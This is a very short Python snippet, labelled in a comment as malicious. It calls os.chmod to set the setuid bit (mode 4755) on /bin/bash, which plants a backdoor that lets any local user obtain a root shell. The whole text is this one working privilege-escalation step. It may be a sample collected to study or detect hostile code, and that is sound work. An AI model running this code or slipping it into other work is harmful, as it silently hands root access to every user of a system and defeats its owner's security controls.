# Malicious: sets the setuid bit on /bin/bash (mode 4755); any user can then get a root shell.
import os

os.chmod("/bin/bash", 0o4755)
